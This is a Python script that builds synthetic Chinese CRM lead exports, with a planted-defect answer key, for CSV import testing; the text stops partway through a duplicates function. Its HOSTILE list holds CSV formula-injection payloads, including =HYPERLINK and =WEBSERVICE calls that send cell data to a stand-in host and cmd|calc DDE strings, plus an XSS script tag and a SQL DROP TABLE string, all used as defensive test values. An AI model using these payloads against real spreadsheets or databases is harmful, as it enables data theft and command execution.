#!/usr/bin/env python3
"""Makes leads.csv, leads_gbk.csv and leads_defects.csv in this folder.

What it makes
    leads.csv          2 000 records, UTF-8 with BOM, CRLF row ends: a marketing
                       tool's export of Chinese companies and people, as messy
                       as such exports are.
    leads_gbk.csv      300 records of a later batch, GBK, CRLF row ends.
    leads_defects.csv  which record carries which planted defect (the answer key
                       for import tests), UTF-8 without BOM, LF row ends.
    It then reads the files back, checks that every defect it planted can be
    found in them, and prints the three tables that README.md quotes.

How to run it (Python 3.11 or newer; it needs no network once the packages are in)
    python3 -m venv .venv
    .venv/bin/pip install \\
        Faker==40.54.0 leadforge==1.0.0 \\
        numpy==2.4.6 networkx==3.6.1 pandas==3.1.1 pyarrow==26.0.1 PyYAML==6.0.3
    .venv/bin/python generate_leads.py             # writes next to this script
    .venv/bin/python generate_leads.py /some/dir   # ... or somewhere else

Every random choice comes from a fixed seed and no clock is read, so two runs
with the pinned versions give the same bytes.  Another version of Faker or
leadforge may give other rows; then leads_defects.csv and the README tables
change with them.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import random
import re
import sys
import unicodedata
from collections import Counter
from pathlib import Path

from faker import Faker
from leadforge.api import Generator
from leadforge.core.models import WorldSpec

HEADER = ["公司名称", "联系人", "手机号", "座机", "邮箱", "来源渠道", "所属行业", "客户级别",
          "省份", "城市", "详细地址", "下次联系日期", "负责人", "备注", "录入日期"]
(COMPANY, CONTACT, MOBILE, PHONE, EMAIL, SOURCE, INDUSTRY, LEVEL,
 PROVINCE, CITY, ADDRESS, NEXT, OWNER, REMARK, ENTERED) = HEADER

SOURCES = ["促销", "搜索引擎", "广告", "转介绍", "线上注册", "线上询价", "预约上门", "陌拜",
           "电话咨询", "邮件咨询"]
INDUSTRIES = ["IT", "金融业", "房地产", "商业服务", "运输/物流", "生产", "政府", "文化传媒"]
LEVELS = ["A（重点客户）", "B（普通客户）", "C（非优先客户）"]
EMPLOYEES = {"13800000001": "陈晓明", "13800000002": "王芳", "13800000003": "李强",
             "13800000004": "赵敏", "13800000005": "周杰", "13800000006": "刘洋"}
# leadforge has ten reps; the director carries few leads himself.
REPS = {1: "13800000001", 2: "13800000002", 3: "13800000002", 4: "13800000003",
        5: "13800000003", 6: "13800000004", 7: "13800000004", 8: "13800000005",
        9: "13800000005", 10: "13800000006"}

# Faker's zh_CN provinces, cities and districts are drawn independently of each
# other (湖北省石家庄县…), so places are written down here: they must fit the area code.
# city: (province, area code, digits of a landline, districts, share)
PLACES = {
    "北京市": ("北京市", "010", 8, "朝阳区 海淀区 丰台区 通州区 大兴区", 5),
    "上海市": ("上海市", "021", 8, "浦东新区 徐汇区 闵行区 静安区 嘉定区", 5),
    "天津市": ("天津市", "022", 8, "和平区 南开区 滨海新区", 2),
    "重庆市": ("重庆市", "023", 8, "渝中区 江北区 南岸区 长寿区", 4),
    "广州市": ("广东省", "020", 8, "天河区 番禺区 白云区 黄埔区", 4),
    "深圳市": ("广东省", "0755", 8, "南山区 福田区 宝安区 龙岗区", 5),
    "东莞市": ("广东省", "0769", 8, "南城街道 长安镇 虎门镇", 3),
    "佛山市": ("广东省", "0757", 8, "禅城区 顺德区 南海区", 2),
    "杭州市": ("浙江省", "0571", 8, "西湖区 余杭区 滨江区 萧山区", 4),
    "宁波市": ("浙江省", "0574", 8, "鄞州区 海曙区 北仑区", 2),
    "台州市": ("浙江省", "0576", 8, "椒江区 黄岩区 路桥区", 2),
    "温州市": ("浙江省", "0577", 8, "鹿城区 乐清市 瓯海区", 2),
    "南京市": ("江苏省", "025", 8, "玄武区 江宁区 栖霞区", 3),
    "苏州市": ("江苏省", "0512", 8, "姑苏区 吴中区 昆山市 太仓市", 3),
    "合肥市": ("安徽省", "0551", 8, "蜀山区 包河区 庐阳区", 2),
    "六安市": ("安徽省", "0564", 7, "金安区 裕安区", 1),
    "蚌埠市": ("安徽省", "0552", 7, "龙子湖区 蚌山区", 1),
    "福州市": ("福建省", "0591", 8, "鼓楼区 仓山区 长乐区", 2),
    "厦门市": ("福建省", "0592", 7, "思明区 湖里区 集美区", 3),
    "南昌市": ("江西省", "0791", 8, "东湖区 红谷滩区", 1),
    "济南市": ("山东省", "0531", 8, "历下区 历城区 章丘区", 2),
    "青岛市": ("山东省", "0532", 8, "市南区 崂山区 即墨区", 2),
    "郑州市": ("河南省", "0371", 8, "金水区 中原区 郑东新区", 2),
    "武汉市": ("湖北省", "027", 8, "武昌区 江汉区 洪山区 硚口区", 3),
    "长沙市": ("湖南省", "0731", 8, "岳麓区 雨花区 长沙县", 3),
    "成都市": ("四川省", "028", 8, "武侯区 锦江区 高新区 都江堰市", 4),
    "乐山市": ("四川省", "0833", 7, "市中区 沙湾区", 1),
    "贵阳市": ("贵州省", "0851", 8, "南明区 观山湖区", 1),
    "昆明市": ("云南省", "0871", 8, "五华区 官渡区", 1),
    "西安市": ("陕西省", "029", 8, "雁塔区 未央区 长安区", 2),
    "太原市": ("山西省", "0351", 7, "小店区 迎泽区", 1),
    "长治市": ("山西省", "0355", 7, "潞州区 上党区", 1),
    "石家庄市": ("河北省", "0311", 8, "长安区 裕华区 藁城区", 1),
    "沈阳市": ("辽宁省", "024", 8, "沈河区 和平区 铁西区", 2),
    "朝阳市": ("辽宁省", "0421", 7, "双塔区 龙城区", 1),
    "大连市": ("辽宁省", "0411", 8, "中山区 甘井子区", 2),
    "长春市": ("吉林省", "0431", 8, "朝阳区 南关区", 1),
    "哈尔滨市": ("黑龙江省", "0451", 8, "道里区 南岗区", 1),
    "南宁市": ("广西壮族自治区", "0771", 7, "青秀区 邕宁区", 1),
    "海口市": ("海南省", "0898", 8, "龙华区 美兰区", 1),
    "兰州市": ("甘肃省", "0931", 7, "城关区 七里河区", 1),
    "乌鲁木齐市": ("新疆维吾尔自治区", "0991", 7, "天山区 沙依巴克区", 1),
}
# Faker's zh_CN company() has only 320 results, so its prefixes are one of two
# stocks of brand words and the rest of the name comes from here.
BRANDS = ("鼎盛 宏图 博远 汇通 金诚 恒信 瑞丰 天润 安泰 嘉禾 卓越 万兴 正大 新华锐 同创 启明 远航 "
          "盛世 中恒 德润 众合 百川 立邦德 国泰安 顺达 长兴 长青 乐享 朝晖 和田 重远 大有 曾记 "
          "华藏 济川 骁腾 晟睿 翊辰 泓毅 沐晴").split()
TRADES = {
    "IT": "科技 软件 信息技术 网络科技 数据服务 智能科技",
    "金融业": "投资管理 融资租赁 商业保理 小额贷款 资产管理 保险代理",
    "房地产": "房地产开发 置业 物业管理 建设工程 装饰工程",
    "商业服务": "企业管理咨询 人力资源 商贸 供应链管理 会展服务 财务顾问",
    "运输/物流": "物流 货运代理 供应链 冷链物流 国际货运 运输",
    "生产": "机械制造 电子 精密模具 食品 医疗器械 新材料 纺织 汽车零部件",
    "政府": "城市建设投资 公共交通 水务 国有资产经营 产业园区运营",
    "文化传媒": "文化传媒 广告 影视制作 文化创意 出版发行 教育科技",
}
TAILS = [("有限公司", 70), ("有限责任公司", 9), ("股份有限公司", 8), ("（集团）有限公司", 5), ("", 3),
         ("有限公司分公司", 3)]
MORE_TAILS = {"生产": [("厂", 4)], "金融业": [("合伙企业（有限合伙）", 10)], "商业服务": [("事务所", 4)]}

POLYPHONIC = [  # the city and brand read differently from their characters' commonest sound
    ("重庆市", "生产", "重庆长安汇通汽车零部件有限公司"),
    ("重庆市", "生产", "重庆重载机械制造有限公司"),
    ("重庆市", "金融业", "重庆朝天门会计师事务所"),
    ("长沙市", "商业服务", "长沙长乐行商贸有限公司"),
    ("长沙市", "商业服务", "长沙银行街财务顾问有限公司"),
    ("厦门市", "房地产", "厦门大厦物业管理有限公司"),
    ("厦门市", "生产", "厦门夏商重工有限公司"),
    ("六安市", "生产", "六安六味茶业有限公司"),
    ("蚌埠市", "生产", "蚌埠调味食品有限公司"),
    ("台州市", "生产", "台州单氏精密模具厂"),
    ("乐山市", "文化传媒", "乐山音乐文化传媒有限公司"),
    ("温州市", "生产", "乐清乐行电子有限公司"),
    ("东莞市", "生产", "东莞长安镇长青五金厂"),
    ("广州市", "商业服务", "广州番禺区得月楼餐饮有限公司"),
    ("长治市", "文化传媒", "长治长城会计培训学校"),
    ("朝阳市", "生产", "朝阳朝晖新材料有限公司"),
    ("成都市", "房地产", "都江堰大都会建设工程有限公司"),
    ("西安市", "文化传媒", "西安藏石阁文化创意有限公司"),
    ("天津市", "运输/物流", "天津行行行物流有限公司"),
    ("沈阳市", "生产", "沈阳曾都重型机器有限公司"),
    ("上海市", "金融业", "上海华银银行设备有限公司"),
    ("武汉市", "商业服务", "武汉三参健康管理有限公司"),
    ("南京市", "生产", "南京石头城血站设备有限公司"),
    ("北京市", "商业服务", "北京什刹海血液检测技术有限公司"),
]
LATIN = [
    ("上海市", "IT", "上海ABC科技有限公司"),
    ("上海市", "生产", "3M中国"),
    ("深圳市", "IT", "深圳e路通网络科技有限公司"),
    ("北京市", "文化传媒", "北京K12教育科技有限公司"),
    ("苏州市", "生产", "Nordwind Präzision (Suzhou) Co., Ltd."),
    ("广州市", "运输/物流", "广州T&G国际货运有限公司"),
    ("杭州市", "IT", "杭州51Cloud信息技术有限公司"),
    ("上海市", "商业服务", "Blue Lotus Trading (Shanghai) Co., Ltd."),
    ("青岛市", "商业服务", "青岛O'Neil啤酒餐饮管理有限公司"),
    ("大连市", "生产", "大连NTK電子株式会社"),
    ("成都市", "文化传媒", "成都iPanda文化创意有限公司"),
    ("深圳市", "生产", "ＸＹＺ半导体（深圳）有限公司"),
    ("厦门市", "文化传媒", "厦门2000年代文化传媒有限公司"),
    ("北京市", "运输/物流", "SINO-Trans Cold Chain"),
]
POLY_NAMES = ["单雪梅", "解晓东", "仇红梅", "查文斌", "朴正浩", "区志强", "乐嘉怡", "尉迟恭明",
              "万俟雅", "盖建国", "任重远", "曾国强", "华长青", "翟乐乐", "缪长江", "折可风"]

ROLES = {"vp_finance": ["财务总监", "CFO", "财务负责人"], "ap_manager": ["财务经理", "应付主管"],
         "it_director": ["信息部经理", "IT总监", "技术总监"], "procurement_manager": ["采购经理", "采购总监"]}
DECIDER = {
    "economic_buyer": ["他自己就能拍板", "预算归他批，可以直接谈价格", "本人有签字权"],
    "champion": ["本人很支持，但要老板点头", "他负责写立项报告，最后由总经理定", "内部推动人，签字的是财务总监"],
    "technical_evaluator": ["只负责技术评估，采购部定价格", "先过他的技术关，再上采购会", "技术选型由他定，商务另找王总"],
    "end_user": ["使用部门，没有决定权", "只收集资料，拍板的是分管副总", "要走招标，他只管比价"],
}
WANTS = {
    "IT": ["想换掉现有的CRM，主要看二次开发接口", "要买30个账号的项目管理软件", "问私有化部署怎么收费"],
    "金融业": ["想上一套客户回访和录音系统", "要求数据放在本地机房", "需要电子合同加实名认证"],
    "房地产": ["案场要做来访登记和渠道判客", "想买物业收费系统", "要一套招商租赁台账"],
    "商业服务": ["想把客户资料从Excel搬到系统里", "需要合同和回款提醒", "销售20多人，要管外勤签到"],
    "运输/物流": ["要对接TMS，按票结算", "想看运费对账功能", "车队120台车，要维保提醒"],
    "生产": ["想上进销存，和金蝶对接", "要管经销商报价和打样", "售后派工现在全靠微信群"],
    "政府": ["需要走政府采购目录", "要求国产数据库和信创适配", "问能不能先做一个试点区"],
    "文化传媒": ["要管媒体资源和排期", "想把商单和回款放在一起看", "活动多，要报名签到小程序"],
}
PROGRESS = {
    "no_answer": ["打了{n}次没人接，下周换时间再打", "电话无人接听，已加微信未通过"],
    "left_voicemail": ["前台说在开会，已留言", "留了言，等回电"],
    "connected": ["已通电话，答应发一份方案", "聊了{n}次，还在和另外两家比较", "通过电话，对价格比较敏感"],
    "meeting_set": ["已约上门演示", "约好带技术一起过去谈"],
    "demo_completed": ["演示已做，反馈不错，等报价", "看过演示，问能不能送实施"],
    None: ["新线索，还没联系", "市场部转来，未跟进"],
}
LINE_BREAKS = ["要求：{a}；\n联系时间：工作日下午；\n备注：{b}", "一、{a}\n二、{b}\n三、发票要专票", "{a}\r\n{b}\r\n——市场部转"]
QUOTES = ['客户原话:"{a}",{b}', '对方说 "价格再低10%,马上签" ;{a}', '{a},{b},竞品是"纷享"和"销售易",要对比表']
EMOJI = ["👍", "🔥", "😅", "⭐", "🎉"]
RARE_NAMES = ["王㛃", "李𬭎", "刘𫖯", "陈𬀩"]        # real given-name characters that GBK cannot carry
NOT_EMAILS = ["{u}.example.com", "{u}@@example.com", "{u}@", "@example.com", "{u} at example.com",
              "{u}@example", "微信同号", "张经理@公司", "{u}@exam ple.com", "{u}，example.com"]
NO_EMAIL = ["无", "-", "暂无"]
BAD_DATES = ["2024-02-30", "2023/13/1", "下周", "待定", "2025年2月29日", "2025-00-10", "月底前", "2025/4/31"]
BAD_SOURCES = ["抖音", "小红书", "展会", "老板朋友", "2025春季糖酒会", "其他"]
BAD_INDUSTRIES = ["教育", "医疗", "农业", "餐饮", "互联网+", "未知"]
BAD_LEVELS = ["D", "VIP", "重要", "A+"]
GHOST_MOBILES = ["13800000099", "13900001234", "13800000010"]
GHOST_NAMES = ["张三丰", "离职-王磊", "市场部", "陈小明"]      # 陈小明 is one character off 陈晓明
BAD_MOBILES = ["1.38123E+10", "1381234567", "138123456789", "13X12345678"]
HOSTILE = [
    (COMPANY, '=HYPERLINK("http://leads.example/?c="&B2,"点击查看")'), (REMARK, "+cmd|' /C calc'!A0"),
    (REMARK, "@SUM(1+1)*cmd|' /C calc'!A0"), (CONTACT, "=1+1"), (REMARK, "-2+3+cmd|' /C calc'!A0"),
    (ADDRESS, '=WEBSERVICE("http://leads.example/"&C2)'), (COMPANY, "+8613800138000"),
    (REMARK, "<script>alert('crm')</script>要报价"), (CONTACT, "Robert'); DROP TABLE leads;--"),
]

# kind -> (rows in leads.csv, rows in leads_gbk.csv, effect, what it is)
# effect: "reject" a strict import refuses the row, "dup" it depends on the duplicate
# rule, "clean" importable once normalised, "keep" importable as it stands.
KINDS = {
    "company_missing": (16, 3, "reject", "公司名称 empty"),
    "company_too_long": (3, 1, "reject", "公司名称 of 256, 300 and 412 characters (256 in the GBK batch)"),
    "next_date_wrong": (30, 5, "reject", "下次联系日期 no date: 2024-02-30, 2023/13/1, 下周, 待定, 2025年2月29日 …"),
    "entered_date_wrong": (6, 1, "reject", "录入日期 no date, as above"),
    "owner_unknown_mobile": (12, 2, "reject", "负责人 is a mobile no employee has"),
    "owner_unknown_name": (10, 2, "reject", "负责人 is a name no employee has (离职-王磊, 市场部, 陈小明 …)"),
    "email_not_email": (30, 4, "reject", "邮箱 is no e-mail (two @, no domain, 微信同号 …)"),
    "email_placeholder": (10, 1, "reject", "邮箱 is a word for “none” (无, -, 暂无)"),
    "source_unknown": (20, 3, "reject", "来源渠道 outside the option list"),
    "industry_unknown": (16, 2, "reject", "所属行业 outside the option list"),
    "level_unknown": (6, 1, "reject", "客户级别 outside the option list (D, VIP, 重要, A+)"),
    "mobile_wrong": (8, 1, "reject", "手机号 no mobile (1.38123E+10, 10 digits, 12 digits, a letter)"),
    "columns_too_few": (1, 1, "reject", "record with 9 cells"),
    "columns_too_many": (1, 1, "reject", "record with 17 cells (unquoted commas in 备注)"),
    "two_errors": (6, 1, "reject", "record with two of the errors above; it is counted under each of them too"),
    "dup_whole_row": (16, 3, "dup", "an earlier record once more, every cell the same"),
    "dup_company_and_mobile": (24, 4, "dup", "same company and mobile as an earlier record, later date, other source and remark"),
    "dup_near": (24, 3, "dup", "company almost the same (有限责任公司, brackets, space), same number, three in four in another notation"),
    "dup_company_other_contact": (20, 3, "dup", "same company, another person and mobile"),
    "dup_mobile_other_company": (10, 2, "dup", "same mobile, another company"),
    "dup_of_leads_csv": (0, 10, "dup", "company and mobile are already in leads.csv"),
    "mobile_full_width": (40, 6, "clean", "手机号 in full-width digits (１３８…)"),
    "mobile_plus86": (60, 8, "clean", "手机号 with +86 (+86138…, +86 138…, +86-138-…)"),
    "mobile_0086": (30, 4, "clean", "手机号 with 0086"),
    "mobile_spaced": (50, 6, "clean", "手机号 in groups (138-1234-5678, 138 1234 5678)"),
    "mobile_tab": (12, 2, "clean", "手机号 followed by a tab (how tools keep Excel from eating digits)"),
    "phone_extension": (60, 9, "clean", "座机 with extension (010-8888 6666转803, -803, ext.803)"),
    "phone_full_width": (12, 2, "clean", "座机 in full-width digits"),
    "company_spaces": (30, 4, "clean", "公司名称 with leading or trailing blanks"),
    "contact_spaces": (20, 3, "clean", "联系人 with trailing blanks"),
    "option_spaces": (24, 3, "clean", "来源渠道 with a trailing blank (“广告 ”)"),
    "company_full_width_space": (20, 3, "clean", "公司名称 with a full-width space (U+3000) before, after or inside"),
    "contact_full_width_space": (16, 3, "clean", "two-character 联系人 stretched with U+3000 (王　芳)"),
    "level_letter": (160, 20, "clean", "客户级别 just A, B or C"),
    "level_half_width": (12, 2, "clean", "客户级别 with half-width brackets: A(重点客户)"),
    "owner_name": (180, 25, "clean", "负责人 is an employee's display name, not his mobile"),
    "owner_empty": (120, 18, "keep", "负责人 empty"),
    "contact_missing": (40, 6, "keep", "联系人 empty"),
    "remark_line_break": (60, 9, "keep", "备注 with quoted line breaks (LF; a third of them CRLF)"),
    "remark_quotes_commas": (50, 8, "keep", "备注 with embedded quotes and half-width commas"),
    "emoji": (8, 0, "keep", "an emoji in 备注 or 公司名称"),
    "rare_hanzi": (4, 0, "keep", "联系人 with a character GBK lacks (㛃 𬭎 𫖯 𬀩)"),
    "hostile_value": (9, 3, "keep", "=HYPERLINK…, +cmd|…, @SUM…, <script>, '); DROP TABLE: must stay plain text"),
    "company_255": (1, 0, "keep", "公司名称 of exactly 255 characters"),
    "company_polyphonic": (24, 0, "keep", "hand-made name with polyphonic characters (重庆长安…, 厦门大厦…, 六安六味…)"),
    "contact_polyphonic": (16, 0, "keep", "联系人 with a polyphonic surname or name (单, 解, 仇, 查, 尉迟, 万俟 …)"),
    "company_latin": (14, 0, "keep", "Latin or mixed 公司名称 (上海ABC…, 3M中国, … Co., Ltd.)"),
    "person_as_company": (90, 12, "keep", "a person, not a company: 公司名称 is his name, sometimes + （个人）"),
}
TWO_ERRORS = [("next_date_wrong", "owner_unknown_mobile"), ("email_not_email", "source_unknown"),
              ("mobile_wrong", "industry_unknown"), ("next_date_wrong", "email_not_email"),
              ("owner_unknown_name", "level_unknown"), ("source_unknown", "industry_unknown")]


# --------------------------------------------------------------------------- the worlds
@dataclasses.dataclass
class Lead:
    """What leadforge says about one lead, as far as the export shows it."""
    key: tuple
    account: tuple
    contact: tuple
    day: dt.date
    channel: str
    first_touch: str | None
    rep: int
    city: str
    industry: str
    role: str
    buyer: str
    mail: str
    size: str
    acv: int
    score: float
    tries: int
    outcome: str | None
    last_day: dt.date


SNAPSHOT_DAYS = 14      # the export knows a lead's first two weeks, not how the story ended


def world(seed: int, start: dt.date, n_leads: int) -> list[Lead]:
    """One 30-day campaign, simulated by leadforge, in a Chinese market."""
    gen = Generator.from_recipe("b2b_saas_procurement_v1", seed=seed, difficulty="intermediate",
                                n_accounts=n_leads, n_contacts=n_leads * 2, n_leads=n_leads)
    spec = gen.world_spec
    story = spec.narrative
    industries = [i for i, n in zip(INDUSTRIES, (5, 3, 3, 5, 4, 7, 2, 3)) for _ in range(n)]
    cities = [c for c, p in PLACES.items() for _ in range(p[4])]
    market = dataclasses.replace(story.market, icp_industries=industries, geographies=cities)
    gen = Generator(WorldSpec(config=spec.config, narrative=dataclasses.replace(story, market=market)))
    bundle = gen.generate()
    pop, sim = bundle.population, bundle.simulation_result

    base = dt.date(2024, 1, 1)                       # leadforge's own calendar starts here
    accounts = {a.account_id: a for a in pop.accounts}
    contacts = {c.contact_id: c for c in pop.contacts}
    born = {l.lead_id: dt.date.fromisoformat(l.lead_created_at) for l in sim.leads}
    acv = {o.lead_id: o.estimated_acv for o in sim.opportunities}
    first: dict[str, str] = {}
    for t in sorted(sim.touches, key=lambda t: (t.touch_timestamp, t.touch_id)):
        first.setdefault(t.lead_id, t.touch_type)
    tries: Counter[str] = Counter()
    last: dict[str, tuple[dt.date, str]] = {}
    for a in sorted(sim.sales_activities, key=lambda a: (a.activity_timestamp, a.activity_id)):
        day = dt.date.fromisoformat(a.activity_timestamp[:10])
        if day <= born[a.lead_id] + dt.timedelta(days=SNAPSHOT_DAYS):
            tries[a.lead_id] += 1
            last[a.lead_id] = (day, a.activity_outcome)

    leads = []
    for l in sorted(sim.leads, key=lambda l: (l.lead_created_at, l.lead_id)):
        a, c = accounts[l.account_id], contacts[l.contact_id]
        latent = pop.latent_state.account_latents[a.account_id]
        day, outcome = last.get(l.lead_id, (born[l.lead_id], None))
        leads.append(Lead(
            key=(seed, l.lead_id), account=(seed, a.account_id), contact=(seed, c.contact_id),
            day=start + (born[l.lead_id] - base), channel=l.lead_source,
            first_touch=first.get(l.lead_id), rep=int(l.owner_rep_id[-2:]), city=a.region,
            industry=a.industry, role=c.role_function, buyer=c.buyer_role,
            mail=c.email_domain_type, size=a.employee_band, acv=acv.get(l.lead_id, 0),
            score=latent["latent_account_fit"] + latent["latent_budget_readiness"],
            tries=tries[l.lead_id], outcome=outcome, last_day=start + (day - base)))
    return leads


# --------------------------------------------------------------------------- one clean row
class Maker:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.fake = Faker("zh_CN")
        self.fake.seed_instance(seed)
        provider = next(p for p in self.fake.get_providers() if hasattr(p, "company_prefixes"))
        self.brands = sorted({re.sub("(电子|信息|科技|软件|计算机|电脑|网络)$", "", b) for b in provider.company_prefixes
                              if not re.search("公司|开发区|济南|襄樊|黄石|中建|浙大|联通", b)} | set(BRANDS))
        self.companies: set[str] = set()
        self.mobiles: set[str] = set(EMPLOYEES) | set(GHOST_MOBILES)

    def company(self, city: str, industry: str) -> str:
        rng, tails = self.rng, TAILS + MORE_TAILS.get(industry, [])
        while True:
            place = city.removesuffix("市") if rng.random() < 0.85 else ""
            tail = rng.choices([t for t, _ in tails], [w for _, w in tails])[0]
            name = place + rng.choice(self.brands) + rng.choice(TRADES[industry].split()) + tail
            if tail == "有限公司分公司":
                name = name.removesuffix("分公司") + rng.choice(list(PLACES)).removesuffix("市") + "分公司"
            if self.claim(name):
                return name

    def person(self) -> str:
        while True:
            name = self.fake.name()
            if self.rng.random() < 0.5:
                name += "（个人）" if self.rng.random() < 0.7 else "-个体"
            if self.claim(name):
                return name

    def claim(self, name: str) -> bool:
        key = company_key(name)
        if key in self.companies:
            return False
        self.companies.add(key)
        return True

    def mobile(self) -> str:
        while (m := self.fake.phone_number()) in self.mobiles:
            pass
        self.mobiles.add(m)
        return m

    def landline(self, city: str) -> str:
        _, area, digits, _, _ = PLACES[city]
        n = str(self.rng.randint(2, 8)) + "".join(self.rng.choices("0123456789", k=digits - 1))
        return self.rng.choice([f"{area}-{n}"] * 5 + [f"{area}{n}", f"({area}){n}", f"{area} {n[:-4]} {n[-4:]}"])

    def email(self, kind: str) -> str:
        if kind == "unknown":
            return ""
        if kind == "personal":                          # example.com / .net / .org
            return self.fake.ascii_safe_email()
        user, domain = self.fake.user_name(), self.fake.domain_word()
        return f"{user}@{domain}.example"               # a reserved name: nobody can receive it

    def source(self, lead: Lead) -> str:
        if lead.channel == "partner_referral":
            return "转介绍"
        if lead.channel == "sdr_outbound":
            return {"call": "陌拜", "email": "促销", "webinar": "预约上门"}.get(
                lead.first_touch, self.rng.choice(["陌拜", "预约上门", "促销"]))
        return {"content_download": "线上注册", "webinar": "广告", "email": "邮件咨询", "call": "电话咨询"}.get(
            lead.first_touch, self.rng.choice(["搜索引擎", "搜索引擎", "线上询价"]))

    def remark_parts(self, lead: Lead) -> list[str]:
        rng = self.rng
        parts = [rng.choice(WANTS[lead.industry])]
        if lead.acv:
            wan = max(1, round(lead.acv * 7.2 / 10_000))
            parts.append(rng.choice([f"预算{wan}万左右", f"今年批了{wan}万", f"大概能出{wan}万，还可以谈"]))
        else:
            parts.append(rng.choice(["预算没说", "还没立项", "预算要等下半年"]))
        parts.append(f"{rng.choice(ROLES[lead.role])}，{rng.choice(DECIDER[lead.buyer])}")
        if rng.random() < 0.3:
            parts.append(f"公司规模{lead.size}人")
        parts.append(rng.choice(PROGRESS[lead.outcome]).format(n=max(1, lead.tries)))
        return parts

    def remark(self, lead: Lead) -> str:
        parts = self.remark_parts(lead)
        if self.rng.random() < 0.25:
            parts = parts[:2]
        return "；".join(parts) + ("。" if self.rng.random() < 0.7 else "")

    def date(self, day: dt.date) -> str:
        return self.rng.choices([day.isoformat(), f"{day.year}-{day.month}-{day.day}",
                                 f"{day.year}/{day.month:02}/{day.day:02}",
                                 f"{day.year}年{day.month}月{day.day}日"], [55, 15, 18, 12])[0]

    def next_day(self, lead: Lead) -> dt.date:
        low, high = {"no_answer": (1, 4), "left_voicemail": (1, 5), "connected": (3, 12),
                     "meeting_set": (2, 9), "demo_completed": (5, 15)}.get(lead.outcome, (1, 3))
        day = lead.last_day + dt.timedelta(days=self.rng.randint(low, high))
        return day + dt.timedelta(days=(0, 0, 0, 0, 0, 2, 1)[day.weekday()])     # no weekends

    def row(self, lead: Lead, levels: tuple[float, float], company: str | None = None) -> dict[str, str]:
        rng = self.rng
        province, _, _, districts, _ = PLACES[lead.city]
        level = LEVELS[0 if lead.score >= levels[0] else 1 if lead.score >= levels[1] else 2]
        return {
            COMPANY: company or self.company(lead.city, lead.industry),
            CONTACT: self.fake.name(),
            MOBILE: self.mobile() if rng.random() < 0.96 else "",
            PHONE: self.landline(lead.city) if rng.random() < 0.42 else "",
            EMAIL: self.email(lead.mail),
            SOURCE: self.source(lead) if rng.random() < 0.97 else "",
            INDUSTRY: lead.industry if rng.random() < 0.97 else "",
            LEVEL: level if rng.random() < 0.94 else "",
            PROVINCE: province, CITY: lead.city,
            ADDRESS: (rng.choice(districts.split()) + self.fake.street_name() + f"{rng.randint(1, 399)}号"
                      + (f"{self.fake.building_number()}{rng.randint(101, 2908)}室" if rng.random() < 0.6 else "")),
            NEXT: self.date(self.next_day(lead)) if rng.random() < 0.93 else "",
            OWNER: REPS[lead.rep],
            REMARK: self.remark(lead) if rng.random() < 0.92 else "",
            ENTERED: self.date(lead.day),
        }


# --------------------------------------------------------------------------- planting
@dataclasses.dataclass
class Rec:
    row: dict[str, str]
    lead: Lead
    order: tuple
    kinds: set[str] = dataclasses.field(default_factory=set)
    touched: set[str] = dataclasses.field(default_factory=set)      # columns a defect already took
    raw: str | None = None                                          # line written as it is
    frozen: bool = False                                            # a duplicate or its original


def full_width(s: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in s)


class Batch:
    def __init__(self, maker: Maker, column: int, leads: list[Lead], total: int):
        self.m, self.rng, self.column = maker, maker.rng, column
        self.want = {k: v[column] for k, v in KINDS.items()}
        scores = sorted((l.score for l in leads), reverse=True)
        self.levels = (scores[len(scores) // 5], scores[len(scores) * 7 // 10])
        dups = sum(n for k, n in self.want.items() if k.startswith("dup_") and k != "dup_of_leads_csv")
        # a company enters the file with the first lead of its account; what leadforge
        # lets come back later is what the duplicates are made from
        seen: set[tuple] = set()
        firsts, self.back, self.colleague = [], {}, {}
        for l in leads:
            if l.account not in seen:
                seen.add(l.account)
                firsts.append(l)
            else:
                head = next(f for f in firsts if f.account == l.account)
                (self.back if head.contact == l.contact else self.colleague).setdefault(head.key, l)
        assert len(firsts) >= total - dups, (len(firsts), total - dups)
        keep = sorted(self.rng.sample(range(len(firsts)), total - dups))
        firsts = [firsts[i] for i in keep]
        named = {}
        if column == 0:
            free = list(range(len(firsts)))
            self.rng.shuffle(free)
            for kind, stock in (("company_polyphonic", POLYPHONIC), ("company_latin", LATIN)):
                for city, industry, name in stock:
                    maker.claim(name)
                    named[free.pop()] = (kind, city, industry, name)
        self.recs: list[Rec] = []
        for i, l in enumerate(firsts):
            kind, city, industry, name = named.get(i, (None, l.city, l.industry, None))
            lead = dataclasses.replace(l, city=city, industry=industry)
            rec = Rec(maker.row(lead, self.levels, name), lead, (lead.day, i, 0))
            if kind:
                rec.kinds.add(kind)
                rec.touched.add(COMPANY)
            self.recs.append(rec)

    def pick(self, n: int, cols, test=lambda r: True) -> list[Rec]:
        """n records whose columns no defect has taken yet."""
        free = [r for r in self.recs if r.raw is None and not r.touched & set(cols)
                and not r.frozen and not r.kinds & REJECT and test(r)]
        return self.rng.sample(free, n)

    def put(self, kind: str, cols, change, test=lambda r: True):
        for i, r in enumerate(self.pick(self.want[kind], cols, test)):
            change(r, i)
            r.kinds.add(kind)
            r.touched |= set(cols)

    def set_values(self, kind: str, col: str, values, test=lambda r: True):
        offset = self.column * 3
        self.put(kind, [col], lambda r, i: r.row.__setitem__(col, values[(i + offset) % len(values)]), test)

    # -- the steps, in the order that keeps them apart
    def people(self):
        def change(r, i):
            if r.lead.industry == "政府":
                r.lead = dataclasses.replace(r.lead, industry="商业服务")
                r.row[INDUSTRY] = ""
            r.row[COMPANY] = self.m.person()
            r.row[CONTACT] = re.sub("（个人）|-个体", "", r.row[COMPANY]) if i % 3 else ""
            r.row[PHONE] = ""
            r.touched |= {PHONE, REMARK}
            want, budget, *_, progress = self.m.remark_parts(r.lead)
            r.row[REMARK] = f"{self.rng.choice(['个人买家', '自己开店', '朋友介绍来的'])}，{want}；{budget}；{progress}"
        # those without 联系人 are counted as contact_missing as well
        for i, r in enumerate(self.pick(self.want["person_as_company"], [COMPANY, CONTACT])):
            change(r, i)
            r.kinds.add("person_as_company")
            r.touched |= {COMPANY, CONTACT}
            if not r.row[CONTACT]:
                r.kinds.add("contact_missing")

    def names(self):
        if self.column == 0:
            for (kind, stock) in (("contact_polyphonic", POLY_NAMES), ("rare_hanzi", RARE_NAMES)):
                self.set_values(kind, CONTACT, stock)

    def duplicates(self):
        m, rng, number = self.m, self.rng, 0

        def base(n, pool, cols=(COMPANY, MOBILE, CONTACT)):
